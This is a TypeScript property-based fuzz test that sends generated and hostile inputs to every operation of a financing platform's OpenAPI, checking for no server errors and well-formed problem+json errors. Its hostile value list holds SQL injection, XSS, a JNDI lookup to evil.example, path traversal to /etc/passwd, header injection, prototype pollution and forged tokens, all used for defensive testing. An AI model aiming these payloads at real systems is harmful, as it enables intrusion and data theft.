// Property-based fuzzing of every operation in the OpenAPI document (fast-check): path params,
// query strings and JSON bodies generated from the operation's schemas, plus hostile values
// (oversize strings, deep nesting, lone surrogates, RTL and zero-width characters, emoji, NUL,
// negative / zero / huge / fractional / NaN-like amounts, injection-shaped strings), wrong content
// types, wrong methods, broken JSON and percent-encoding, and credentials of a matching role,
// another role, garbage, or none. The properties: no answer is a 5xx, and every error answer is
// RFC 9457 application/problem+json whose `status` is the HTTP status (the human-facing HTML pages
// /l/{code} and /t/{token} answer their form errors as HTML pages, by design). Prints the call count.
import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_ENTERPRISE_ID } from '../../prisma/seed';
import { eventually } from '../support/eventually';
import { as, startTestStack, type TestStack } from '../support/stack';
import { SIZES } from './profile';

/** Calls after the role probes (profile.ts; FUZZ_CALLS overrides). */
const CALLS = SIZES.fuzzCalls;
const CONCURRENCY = 8;
const SEED = Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31);

type Schema = Record<string, any>;
interface Operation {
  method: string;
  path: string;
  params: Array<{ in: string; name: string; required?: boolean; schema: Schema }>;
  body?: { contentType: string; schema: Schema };
  /** Answers text/html pages (the loan-code form and tracking page). */
  page: boolean;
  public: boolean;
}

interface Call {
  op: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  page: boolean;
}

const CALLERS = ['enterprise', 'bank:hecheng-rcb', 'bank:suzhou-bank', 'guaranteeInstitution', 'supervisor', 'admin'] as const;

// ---- hostile values ----

const LONE_SURROGATES = ['\uD800', '\uDFFF', 'a\uD83Db', '\uDC00\uD800'];
const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  ...LONE_SURROGATES,
  '\u202Eevil\u202C',
  'שלום עולם مرحبا',
  '\u200B\u200C\u200D\uFEFF',
  '💥👨‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0301\u0301\u0301',
  '𝕳𝖊𝖑𝖑𝖔',
  "' OR '1'='1' --",
  '1; DROP TABLE "FinancingRequest"; --',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\r\nX-Injected: 1',
  '{"$gt":""}',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  'null',
  'true',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'x'.repeat(600),
  '长'.repeat(5000),
];
const HOSTILE_NUMBERS = [-1, 0, -0, 1, 0.5, 1.5, -1e9, 2 ** 31, 2 ** 53 + 2, Number.MAX_SAFE_INTEGER, 1e21, 1e308, -1e308, 5e-324];
const HOSTILE_VALUES: unknown[] = [...HOSTILE_STRINGS, ...HOSTILE_NUMBERS, null, true, false, [], {}, [null], { '': '' }, { __proto__: { admin: true } }];

const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);
const hostileValue = fc.oneof(fc.constantFrom(...HOSTILE_VALUES), hostileString, fc.double(), fc.integer({ min: -(2 ** 53), max: 2 ** 53 }));

function deepNesting(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

// ---- JSON Schema (OpenAPI 3.1) → fast-check ----

function resolver(doc: Schema) {
  return (s: Schema | undefined): Schema => {
    let cur = s ?? {};
    for (let i = 0; i < 10 && cur.$ref; i++) {
      const name = String(cur.$ref).replace('#/components/schemas/', '');
      cur = { ...doc.components.schemas[name], ...Object.fromEntries(Object.entries(cur).filter(([k]) => k !== '$ref')) };
    }
    return cur;
  };
}

function stringFor(s: Schema): fc.Arbitrary<string> {
  if (s.enum) return fc.constantFrom(...(s.enum as string[]));
  if (s.format === 'uuid') return fc.uuid();
  if (s.format === 'date-time') return fc.date({ min: new Date('2020-01-01'), max: new Date('2030-12-31'), noInvalidDate: true }).map((d) => d.toISOString());
  if (s.format === 'date')
    return fc.date({ min: new Date('2020-01-01'), max: new Date('2030-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
  if (s.format === 'email') return fc.emailAddress();
  if (s.format === 'uri') return fc.webUrl();
  if (typeof s.pattern === 'string') {
    try {
      return fc.stringMatching(new RegExp(s.pattern)).filter((v) => v.length <= (s.maxLength ?? 200) && v.length >= (s.minLength ?? 0));
    } catch {
      /* an unsupported pattern: fall through */
    }
  }
  return fc.string({ minLength: s.minLength ?? 0, maxLength: Math.min(s.maxLength ?? 40, 80) });
}

function arbitraryFor(raw: Schema | undefined, resolve: (s: Schema | undefined) => Schema, depth = 0): fc.Arbitrary<unknown> {
  const s = resolve(raw);
  if (depth > 6) return fc.constant(null);
  if ('const' in s) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...(s.enum as unknown[]));
  for (const k of ['anyOf', 'oneOf'] as const) if (Array.isArray(s[k])) return fc.oneof(...(s[k] as Schema[]).map((x) => arbitraryFor(x, resolve, depth + 1)));
  if (Array.isArray(s.allOf)) {
    const merged = (s.allOf as Schema[])
      .map(resolve)
      .reduce<Schema>(
        (acc, x) => ({ ...acc, ...x, properties: { ...acc.properties, ...x.properties }, required: [...(acc.required ?? []), ...(x.required ?? [])] }),
        {},
      );
    return arbitraryFor(merged, resolve, depth + 1);
  }
  const type = Array.isArray(s.type) ? s.type[0] : s.type;
  switch (type) {
    case 'string':
      return stringFor(s);
    case 'integer': {
      const min = s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : -1_000_000);
      const max = s.maximum ?? (s.exclusiveMaximum !== undefined ? s.exclusiveMaximum - 1 : 1_000_000_000_000);
      return fc.integer({ min: Math.max(min, Number.MIN_SAFE_INTEGER), max: Math.min(max, Number.MAX_SAFE_INTEGER) });
    }
    case 'number':
      return fc.double({ min: s.minimum ?? -1e6, max: s.maximum ?? 1e12, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(arbitraryFor(s.items, resolve, depth + 1), { minLength: s.minItems ?? 0, maxLength: Math.min(s.maxItems ?? 4, 6) });
    case 'object':
    default: {
      if (!s.properties) return fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(fc.string({ maxLength: 10 }), fc.integer()), { maxKeys: 3 });
      const props = Object.entries(s.properties as Record<string, Schema>);
      const required = new Set<string>(s.required ?? []);
      return fc.record(Object.fromEntries(props.map(([k, v]) => [k, arbitraryFor(v, resolve, depth + 1)])), {
        requiredKeys: props.map(([k]) => k).filter((k) => required.has(k)),
      });
    }
  }
}

/** A valid-looking value with one field swapped for a hostile one (or an extra field added). */
function mutate(value: unknown): fc.Arbitrary<unknown> {
  if (!value || typeof value !== 'object' || Array.isArray(value)) return hostileValue;
  const keys = Object.keys(value);
  const stringKeys = keys.filter((k) => typeof (value as Record<string, unknown>)[k] === 'string');
  return fc.oneof(
    // A valid string with one odd character spliced in: still the right length and shape, so it
    // reaches the handler (and, if accepted, the database).
    ...(stringKeys.length
      ? [
          fc
            .tuple(fc.constantFrom(...stringKeys), fc.constantFrom('\u0000', '\uD800', '\uDFFF', '\u202E', '\u200B', '\uFEFF', '💥', "'", '\\'), fc.nat())
            .map(([k, ch, at]) => {
              const v = String((value as Record<string, unknown>)[k]);
              const i = v.length ? at % v.length : 0;
              return { ...value, [k]: v.slice(0, i) + ch + v.slice(i) };
            }),
        ]
      : []),
    fc.tuple(keys.length ? fc.constantFrom(...keys) : fc.constant('x'), hostileValue).map(([k, v]) => ({ ...value, [k]: v })),
    fc
      .tuple(fc.constantFrom('__proto__', 'constructor', 'prototype', '$where', 'role', 'isAdmin', 'enterpriseId', 'bankId', 'status'), hostileValue)
      .map(([k, v]) => {
        const o: Record<string, unknown> = { ...value };
        Object.defineProperty(o, k, { value: v, enumerable: true, configurable: true, writable: true });
        return o;
      }),
  );
}

/**
 * Node's HTTP parser refuses a request line and headers above 16 KiB with a bare 431 before the
 * application sees it (docs/security.md, API4): generated URLs stay below that.
 */
const MAX_SEGMENT = 2000;

/** Percent-encodes a path segment, including lone surrogates (as the invalid UTF-8 of their code unit) and broken escapes. */
function encodeSegment(v: string): string {
  return encodeFull(v)
    .slice(0, MAX_SEGMENT)
    .replace(/%[0-9A-Fa-f]?$/, '');
}

function encodeFull(v: string): string {
  let out = '';
  for (const ch of v) {
    try {
      out += encodeURIComponent(ch);
    } catch {
      const c = ch.charCodeAt(0);
      out += `%${(0xe0 | (c >> 12)).toString(16)}%${(0x80 | ((c >> 6) & 0x3f)).toString(16)}%${(0x80 | (c & 0x3f)).toString(16)}`.toUpperCase();
    }
  }
  return out || '%20';
}

function operations(doc: Schema): Operation[] {
  const resolve = resolver(doc);
  const out: Operation[] = [];
  for (const [p, item] of Object.entries(doc.paths as Record<string, Record<string, Schema>>)) {
    for (const [method, op] of Object.entries(item)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const content = op.requestBody?.content as Record<string, { schema: Schema }> | undefined;
      const contentType = content ? Object.keys(content)[0]! : undefined;
      const responses = Object.values((op.responses ?? {}) as Record<string, Schema>);
      out.push({
        method: method.toUpperCase(),
        path: p,
        params: ((op.parameters ?? []) as Schema[]).map(resolve) as Operation['params'],
        body: contentType ? { contentType, schema: content![contentType]!.schema } : undefined,
        page: responses.some((r) => r.content && 'text/html' in r.content),
        public: Array.isArray(op.security) && op.security.length === 0,
      });
    }
  }
  return out;
}

let s: TestStack;
const known: Record<string, string[]> = {};

beforeAll(async () => {
  s = await startTestStack({ apiConfig: { rateLimits: { perPrincipalPerMinute: 10_000_000, publicPerIpPerMinute: 10_000_000 } } });
  // Real objects, so generated calls reach past "not found" into the handlers.
  const ent = as('enterprise');
  const directed = await s.api(
    'POST',
    '/v1/financing-requests',
    {
      amountFen: 150_000_000,
      termMonths: 12,
      purpose: 'fuzz fixture',
      guaranteeMethod: 'credit',
      routing: 'directed',
      directedBankIds: ['hecheng-rcb'],
      dataConsent: true,
    },
    { ...ent, 'Idempotency-Key': `fuzz-directed-${randomUUID()}` },
  );
  const pool = await s.api(
    'POST',
    '/v1/financing-requests',
    { amountFen: 90_000_000, termMonths: 6, purpose: 'fuzz pool fixture', guaranteeMethod: 'credit', routing: 'pool' },
    { ...ent, 'Idempotency-Key': `fuzz-pool-${randomUUID()}` },
  );
  expect([directed.status, pool.status]).toEqual([201, 201]);
  await eventually(
    () => s.db.prisma.claim.count({ where: { financingRequestId: directed.body.id } }),
    (n) => n === 1,
    30_000,
  );
  const code = await s.db.prisma.loanCode.create({ data: { id: `fuzz${Date.now().toString(36)}`, bankId: 'hecheng-rcb', label: 'fuzz' } });
  const grant = await s.db.prisma.portraitGrant.create({
    data: {
      id: randomUUID(),
      enterpriseId: DEMO_ENTERPRISE_ID,
      bankId: 'hecheng-rcb',
      sections: ['registration'],
      expiresAt: new Date(Date.now() + 86_400_000),
    },
  });
  const tracking = await s.db.prisma.loanCodeSubmission.create({
    data: {
      id: randomUUID(),
      loanCodeId: code.id,
      enterpriseId: DEMO_ENTERPRISE_ID,
      financingRequestId: directed.body.id,
      trackingToken: `fuzz${randomUUID().replace(/-/g, '')}`,
      dedupeKey: randomUUID(),
    },
  });
  Object.assign(known, {
    id: [directed.body.id, pool.body.id, code.id],
    requestId: [directed.body.id],
    enterpriseId: [DEMO_ENTERPRISE_ID],
    bankId: ['hecheng-rcb', 'suzhou-bank'],
    grantId: [grant.id],
    code: [code.id],
    token: [tracking.trackingToken],
    recipientType: ['bank', 'enterprise', 'guaranteeInstitution'],
    recipientId: ['hecheng-rcb', DEMO_ENTERPRISE_ID],
  });
});
afterAll(async () => {
  await s?.close();
});

interface Answer {
  call: Call;
  status: number;
  contentType: string;
  body: string;
}

async function send(c: Call, retried = false): Promise<Answer> {
  let res: Response;
  try {
    res = await fetch(s.apiUrl + c.url, { method: c.method, headers: c.headers, body: c.body, redirect: 'manual' });
  } catch (err) {
    // A kept-alive socket the server closed just as the client reused it (ECONNRESET): a client-side
    // race of HTTP keep-alive, not an answer. Sent once more on a fresh connection; twice is a failure.
    if (retried || (err as { cause?: { code?: string } }).cause?.code !== 'ECONNRESET') throw err;
    return send({ ...c, headers: { ...c.headers, connection: 'close' } }, true);
  }
  const body = await res.text();
  return { call: c, status: res.status, contentType: res.headers.get('content-type') ?? '', body };
}

/** What is wrong with an answer, or undefined. */
function violation(a: Answer): string | undefined {
  if (a.status >= 500) return `5xx: ${a.status} ${a.body.slice(0, 300)}`;
  if (a.status < 400 || a.call.method === 'HEAD') return undefined;
  if (a.call.page && a.contentType.startsWith('text/html')) return /at .+\.(ts|js):\d+/.test(a.body) ? 'HTML error page with a stack trace' : undefined;
  if (!a.contentType.startsWith('application/problem+json')) return `error ${a.status} as ${a.contentType || 'no content type'}: ${a.body.slice(0, 200)}`;
  let p: { type?: unknown; title?: unknown; status?: unknown };
  try {
    p = JSON.parse(a.body);
  } catch {
    return `problem+json that is not JSON: ${a.body.slice(0, 200)}`;
  }
  if (typeof p.type !== 'string' || typeof p.title !== 'string' || p.status !== a.status) return `malformed problem: ${a.body.slice(0, 200)}`;
  if (/\bat .+\.(ts|js):\d+/.test(a.body)) return 'problem with a stack trace';
  return undefined;
}

function describeCall(c: Call): string {
  const body = c.body === undefined ? '' : ` body=${JSON.stringify(String(c.body).slice(0, 300))}`;
  const auth = c.headers.authorization ? ` as ${c.headers['x-caller'] ?? 'garbage'}` : ' anonymous';
  return `${c.method} ${c.url.slice(0, 300)} [${c.headers['content-type'] ?? '-'}]${auth}${body}`;
}

describe('fuzzing every operation of the OpenAPI document', () => {
  it(`answers ${CALLS}+ generated calls with no 5xx and only problem+json errors`, async () => {
    const started = Date.now();
    const doc = (await s.api('GET', '/openapi.json')).body as Schema;
    const resolve = resolver(doc);
    const ops = operations(doc);
    expect(ops.length).toBeGreaterThan(40);
    let calls = 0;
    const failures: string[] = [];
    const statuses = new Map<string, number>();
    const check = (a: Answer) => {
      calls += 1;
      const k = `${a.status < 300 ? '2xx' : a.status}`;
      statuses.set(k, (statuses.get(k) ?? 0) + 1);
      const v = violation(a);
      if (v && failures.length < 50) failures.push(`${describeCall(a.call)} → ${v}`);
    };

    // 1. Which callers get past authorisation for each operation (anything but 401/403): the
    //    generated calls then mostly use one of those, so they reach validation and the handler.
    const matching = new Map<string, string[]>();
    for (const op of ops) {
      const url = op.path.replace(/\{(\w+)\}/g, (_m, name: string) => encodeSegment(known[name]?.[0] ?? randomUUID()));
      const ok: string[] = [];
      for (const who of CALLERS) {
        const a = await send({
          op: `${op.method} ${op.path}`,
          method: op.method,
          url,
          page: op.page,
          headers: { ...as(who), 'x-caller': who, 'Idempotency-Key': `probe-${randomUUID()}`, ...(op.body ? { 'content-type': 'application/json' } : {}) },
          body: op.body ? '{}' : undefined,
        });
        check(a);
        if (a.status !== 401 && a.status !== 403) ok.push(who);
      }
      matching.set(`${op.method} ${op.path}`, ok.length ? ok : [...CALLERS]);
    }

    // 2. Generated calls.
    const idemKeys = Array.from({ length: 24 }, (_, i) => `fuzz-key-${i.toString().padStart(3, '0')}`);
    const callArb: fc.Arbitrary<Call> = fc.constantFrom(...ops).chain((op) => {
      const name = `${op.method} ${op.path}`;
      const pathNames = [...op.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
      const paramSchema = (n: string) => op.params.find((p) => p.in === 'path' && p.name === n)?.schema ?? { type: 'string' };
      const pathArb = fc.tuple(
        ...pathNames.map((n) =>
          fc.oneof(
            { weight: 5, arbitrary: fc.constantFrom(...(known[n] ?? [randomUUID()])) },
            { weight: 3, arbitrary: arbitraryFor(paramSchema(n), resolve).map(String) },
            { weight: 2, arbitrary: hostileString },
          ),
        ),
      );
      const queryParams = op.params.filter((p) => p.in === 'query');
      const queryArb = fc.array(
        fc.oneof(
          ...(queryParams.length
            ? [
                fc
                  .constantFrom(...queryParams)
                  .chain((p) =>
                    fc.tuple(fc.constant(p.name), fc.oneof({ weight: 3, arbitrary: arbitraryFor(p.schema, resolve) }, { weight: 1, arbitrary: hostileValue })),
                  ),
              ]
            : []),
          fc.tuple(fc.constantFrom('unknown', 'limit', 'cursor', '__proto__', 'a[b]', 'sort'), hostileValue),
        ),
        { maxLength: 4 },
      );
      const bodyArb: fc.Arbitrary<{ contentType?: string; body?: string | Buffer }> = op.body
        ? fc
            .oneof(
              { weight: 4, arbitrary: arbitraryFor(op.body.schema, resolve).map((v) => ({ contentType: op.body!.contentType, value: v })) },
              {
                weight: 3,
                arbitrary: arbitraryFor(op.body.schema, resolve)
                  .chain(mutate)
                  .map((v) => ({ contentType: op.body!.contentType, value: v })),
              },
              { weight: 1, arbitrary: hostileValue.map((v) => ({ contentType: 'application/json', value: v })) },
              {
                weight: 1,
                arbitrary: fc
                  .constantFrom(
                    deepNesting(5000, 'array'),
                    deepNesting(3000, 'object'),
                    '{"amountFen": NaN}',
                    '{"amountFen": Infinity}',
                    '{"amountFen": 1e400}',
                    '{"a":',
                    '\uFEFF{}',
                    '{"a":"\\ud800"}',
                    '{"a":"\\u0000"}',
                    '[1,2,3]',
                    'null',
                    '"string"',
                    JSON.stringify({ purpose: 'x'.repeat(70_000) }),
                  )
                  .map((raw) => ({ contentType: 'application/json', raw })),
              },
              {
                weight: 1,
                arbitrary: fc
                  .tuple(
                    fc.constantFrom(
                      'text/plain',
                      'application/xml',
                      'multipart/form-data; boundary=x',
                      'application/x-www-form-urlencoded',
                      'application/json; charset=utf-16',
                      'application/json; charset=latin1',
                      'application/vnd.api+json',
                    ),
                    fc.constantFrom(
                      '{"amountFen":1}',
                      'amountFen=1&routing=pool',
                      '<a>1</a>',
                      '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
                    ),
                  )
                  .map(([contentType, raw]) => ({ contentType, raw })),
              },
              { weight: 1, arbitrary: fc.constant({}) },
            )
            .map((b: { contentType?: string; value?: unknown; raw?: string }) => ({
              contentType: b.contentType,
              body:
                b.raw !== undefined
                  ? b.raw
                  : b.value === undefined
                    ? undefined
                    : b.contentType === 'application/x-www-form-urlencoded' && b.value && typeof b.value === 'object'
                      ? new URLSearchParams(Object.entries(b.value as Record<string, unknown>).map(([k, v]): [string, string] => [k, String(v)])).toString()
                      : JSON.stringify(b.value),
            }))
        : fc.oneof(
            { weight: 5, arbitrary: fc.constant({}) },
            { weight: 1, arbitrary: hostileValue.map((v) => ({ contentType: 'application/json', body: JSON.stringify(v) ?? 'null' })) },
          );
      const authArb = fc.oneof(
        { weight: 12, arbitrary: fc.constantFrom(...matching.get(name)!).map((who) => ({ ...as(who), 'x-caller': who })) },
        { weight: 2, arbitrary: fc.constantFrom(...CALLERS).map((who) => ({ ...as(who), 'x-caller': who })) },
        { weight: 2, arbitrary: fc.constant({} as Record<string, string>) },
        {
          weight: 1,
          arbitrary: fc
            .constantFrom(
              'Bearer ',
              'Bearer lb_nope_nope',
              'Bearer lb_demoadmin001_wrongsecret',
              'Basic YWRtaW46YWRtaW4=',
              'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
              'Bearer ' + 'A'.repeat(4000),
            )
            .map((h) => ({ authorization: h })),
        },
      );
      const keyArb = fc.oneof(
        { weight: 8, arbitrary: fc.constantFrom(...idemKeys) },
        { weight: 1, arbitrary: fc.constantFrom('', 'short', 'has space here', 'ü'.repeat(10), 'k'.repeat(200), 'a\u0000bcdefghi') },
        { weight: 1, arbitrary: fc.constant(undefined) },
      );
      const methodArb = fc.oneof(
        { weight: 18, arbitrary: fc.constant(op.method) },
        { weight: 1, arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS') },
      );
      return fc.record({ path: pathArb, query: queryArb, body: bodyArb, auth: authArb, key: keyArb, method: methodArb }).map((g) => {
        let i = 0;
        const p = op.path.replace(/\{\w+\}/g, () => encodeSegment(String(g.path[i++])));
        const q = g.query
          .map(([k, v]) => `${encodeSegment(String(k))}=${encodeSegment(typeof v === 'string' ? v : (JSON.stringify(v) ?? 'undefined'))}`)
          .join('&')
          .slice(0, 6000);
        const headers: Record<string, string> = { ...g.auth };
        if (g.body.contentType) headers['content-type'] = g.body.contentType;
        // Header values must be ByteStrings: a key with characters above U+00FF cannot be sent at all.
        // Header values must be printable bytes: a key with control characters or characters above
        // U+00FF cannot be sent at all (the client refuses), so those go as a percent-encoded key.
        if (g.key !== undefined) headers['idempotency-key'] = /^[\x20-\x7e\xa0-\xff]*$/.test(g.key) ? g.key : encodeURIComponent(g.key);
        const bodyAllowed = !['GET', 'HEAD'].includes(g.method);
        return {
          op: name,
          method: g.method,
          url: p + (q ? `?${q}` : ''),
          headers,
          body: bodyAllowed ? g.body.body : undefined,
          page: op.page,
        };
      });
    });

    const samples = fc.sample(callArb, { numRuns: CALLS, seed: SEED });
    let next = 0;
    await Promise.all(
      Array.from({ length: CONCURRENCY }, async () => {
        while (next < samples.length) {
          const c = samples[next++]!;
          try {
            check(await send(c));
          } catch (err) {
            calls += 1;
            const e = err as Error & { cause?: { message?: string; code?: string } };
            if (failures.length < 50) failures.push(`${describeCall(c)} → no answer: ${e.message} (${e.cause?.code ?? ''} ${e.cause?.message ?? ''})`);
          }
        }
      }),
    );

    // 3. Still healthy afterwards, and nothing the fuzzer started is stuck retrying: an input the API
    //    accepted but an activity cannot store (a NUL byte for PostgreSQL, say) would leave its
    //    workflow retrying forever, which no HTTP status shows.
    const health = await s.api('GET', '/healthz');
    expect(health.status).toBe(200);
    await new Promise((r) => setTimeout(r, 3000));
    const stuck: string[] = [];
    for await (const w of s.client.workflow.list({ query: `ExecutionStatus = 'Running'` })) {
      const d = await s.client.workflow.getHandle(w.workflowId).describe();
      for (const a of d.raw.pendingActivities ?? [])
        if ((a.attempt ?? 0) >= 3) stuck.push(`${w.workflowId} ${a.activityType?.name} attempt ${a.attempt}: ${a.lastFailure?.message?.slice(0, 200)}`);
    }
    expect(stuck).toEqual([]);
    const seconds = (Date.now() - started) / 1000;
    const byStatus = [...statuses].sort(([a], [b]) => a.localeCompare(b)).map(([k, n]) => `${k}:${n}`);
    console.log(
      `fuzz: ${calls} calls over ${ops.length} operations in ${seconds.toFixed(1)} s (${(calls / seconds).toFixed(0)}/s), seed ${SEED}, ${failures.length} violations; answers ${byStatus.join(' ')}`,
    );
    expect(failures, `seed ${SEED}`).toEqual([]);
    expect(calls).toBeGreaterThanOrEqual(CALLS);
  });
});
